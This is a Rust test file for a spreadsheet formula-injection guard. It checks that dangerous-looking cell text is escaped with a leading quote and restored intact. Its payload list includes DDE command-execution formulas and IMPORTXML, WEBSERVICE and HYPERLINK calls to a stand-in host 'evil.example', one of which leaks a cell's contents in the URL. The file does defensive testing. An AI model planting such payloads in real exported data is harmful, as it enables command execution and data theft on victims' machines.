use super::*;
use proptest::prelude::*;

/// What spreadsheets have been made to run, or to lose.
const PAYLOADS: [&str; 50] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"Click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=2+5+cmd|' /C calc'!A0",
    "==1",
    "=",
    "= 1",
    "+1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+44 1656 643643",
    "++",
    "-1",
    "-3.2",
    "-3.2 down on last year",
    "-1+1+cmd|' /C calc'!A0",
    "- first\n- second",
    "--",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@here",
    "@",
    "\t=1+1",
    "\tindented",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{b}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫SUM(1)",
    "−3.2",
    "'=1+1",
    "''=1+1",
    "'-3.2",
    "' =1",
    "=1+1 ",
    "'=1+1\n",
];

#[test]
fn no_payload_begins_as_a_formula_and_each_comes_back() {
    for payload in PAYLOADS {
        let cell = guarded(payload);
        assert!(cell.starts_with('\''), "{payload:?} is written as {cell:?}");
        assert_eq!(unguarded(&cell), payload, "{cell:?}");
    }
}

#[test]
fn other_texts_stand_as_they_are() {
    for text in ["", "Plain", "'Dyw e ddim", "''quoted''", "'", "''", "3.2", "a=b", "1-2", "Ŵyr", "[\"=1\"]", "'ail = '"] {
        assert_eq!(guarded(text), text);
        assert_eq!(unguarded(text), text);
    }
}

/// Cells of others: spaces around them are not theirs, and a guard is a guard whoever wrote it.
#[test]
fn cells_of_others_are_read_as_people_mean_them() {
    for (cell, text) in
        [(" a ", "a"), ("=1+1", "=1+1"), ("-3.2", "-3.2"), ("'=1+1", "=1+1"), (" '-3.2 ", "-3.2"), ("'Tis ", "'Tis"), ("' ", "'")]
    {
        assert_eq!(unguarded(cell), text, "{cell:?}");
    }
}

proptest! {
    #[test]
    fn every_text_comes_back(text in "['=+@ \\t\\na-]{0,6}|\\PC{0,8}") {
        let cell = guarded(&text);
        prop_assert_eq!(unguarded(&cell), text.as_str());
    }

    #[test]
    fn no_cell_begins_as_a_formula(text in "['=+@ \\t\\na-]{0,6}") {
        let cell = guarded(&text);
        prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']));
    }
}
